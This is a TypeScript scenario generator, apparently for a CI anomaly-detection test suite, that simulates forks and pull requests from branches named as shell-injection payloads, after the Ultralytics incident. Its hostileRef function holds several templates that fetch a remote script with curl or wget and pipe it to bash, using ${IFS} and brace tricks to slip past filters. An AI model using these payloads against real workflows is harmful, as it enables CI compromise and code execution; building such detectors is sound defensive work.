import type { Random } from "@oddwatch/anomaly";
import type { ScenarioGenerator } from "../../scenario.ts";
import { chance, characters, logBetween, pick, wholeBetween } from "../stage/draw.ts";
import { defaultBranch, shortMessage, unseenHost } from "../stage/fresh-names.ts";
import { PERSON } from "../stage/pace.ts";
import { actors, repositories, Stage } from "../stage/stage.ts";
import { NOUNS } from "../stage/words.ts";

function hostileRef(random: Random, host: string): string {
  const path = `${host}/${characters(random, 6)}.sh`;
  return pick(random, [
    `$({curl,-sSfL,${path}}\${IFS}|\${IFS}bash)`,
    `${pick(random, NOUNS)}-$(curl\${IFS}${path}|sh)`,
    `fix/${pick(random, NOUNS)}";{wget,-qO-,${path}}|bash;"`,
    `${pick(random, NOUNS)}\`{curl,${path}}\`x`,
    `patch-${wholeBetween(random, [1, 9])}&&curl\${IFS}-s\${IFS}${path}|sh`,
  ]);
}

/** Pull requests from branches whose names are shell commands, for workflows that paste the name into a script (Ultralytics 2024-12). */
export const shellInHeadRef: ScenarioGenerator = (request) => {
  const stage = new Stage(request);
  const { random, cast, events } = stage;
  const span = stage.span([10, 50]);
  const count = Math.max(1, Math.round(logBetween(random, [2, 9]) * request.strength));
  const host = unseenHost(random);
  const actor = chance(random, 0.7) ? cast.newcomer(undefined, [0.05, 60]) : cast.stranger();
  const oneTarget = chance(random, 0.4);
  const targets = cast.many(oneTarget ? 1 : count, () => cast.knownRepository());
  const forks = targets.map(({ name }) => cast.freshRepository(actor, () => name.slice(name.indexOf("/") + 1)));
  const title = shortMessage(random);
  for (const [index, at] of stage.times(count, span, PERSON).entries()) {
    const [repo, fork] = [targets[index % targets.length], forks[index % forks.length]];
    const ref = hostileRef(random, host);
    const words = {
      number: wholeBetween(random, [30, 20_000]),
      headRef: ref,
      headRepo: fork,
      baseRef: defaultBranch(random),
      title,
    };
    if (index < targets.length) events.fork({ at, actor, repo }, fork);
    events.create({ at: stage.after(at, [20, 90]), actor, repo: fork }, { what: "branch", ref });
    events.push({ at: stage.after(at, [20, 110]), actor, repo: fork }, { branch: ref, messages: [title] });
    events.pullRequest({ at: stage.after(at, [120, 240]), actor, repo }, { action: "opened", ...words });
    if (chance(random, 0.5))
      events.pullRequest({ at: stage.after(at, [260, 600]), actor, repo }, { action: "closed", ...words });
  }
  return stage.scenario({
    name: "shell-in-head-ref",
    family: "C",
    truth: actors([actor]),
    parts: repositories([...targets, ...forks]),
    drivers: ["ref.shell_characters", "shell-in-ref", "shell-in-new-ref"],
    noticeableEvents: 2,
  });
};
